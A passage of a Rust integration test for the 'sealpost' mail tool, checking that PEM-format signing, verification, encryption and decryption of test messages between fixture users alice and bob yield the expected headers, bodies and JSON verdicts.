    assert!(s.contains("-----BEGIN PRIVACY-ENHANCED MESSAGE-----\r\nProc-Type: 4,MIC-CLEAR"), "{s}");
    let o = run_ok(
        sealpost()
            .args(["mail", "verify", "--cert"])
            .arg(p("alice.cert"))
            .arg("--verdict-json")
            .arg(&json)
            .arg(p("s.eml")),
    );
    let out = String::from_utf8_lossy(&o.stdout);
    assert!(out.contains("caf=C3=A9") && out.contains("Content-Type: text/plain; charset=utf-8"), "{out}");
    let v = verdict(&json);
    assert_eq!((v["format"].as_str(), v["status"].as_str()), (Some("pem"), Some("pass-weak")), "{v}");
    run_ok(
        sealpost()
            .args(["mail", "sign-encrypt", "--format", "pem", "--key"])
            .arg(p("alice.key"))
            .arg("--cert")
            .arg(p("alice.cert"))
            .arg("--recipient")
            .arg(p("bob.cert"))
            .arg("-o")
            .arg(p("e.eml"))
            .arg(p("letter.eml")),
    );
    let e = std::fs::read_to_string(p("e.eml")).unwrap();
    assert!(e.contains("Proc-Type: 4,ENCRYPTED") && e.contains("Subject: [...]") && !e.contains("the plan"));
    let o = run_ok(
        sealpost()
            .args(["mail", "decrypt", "--key"])
            .arg(p("bob.key"))
            .arg("--own-cert")
            .arg(p("bob.cert"))
            .arg("--cert")
            .arg(p("alice.cert"))
            .arg("--verdict-json")
            .arg(&json)
            .arg(p("e.eml")),
    );
    let out = String::from_utf8_lossy(&o.stdout);
    assert!(out.contains("Subject: the plan\r\n") && out.contains("caf=C3=A9"), "{out}");
    assert_eq!(verdict(&json)["encrypted"], true);
}
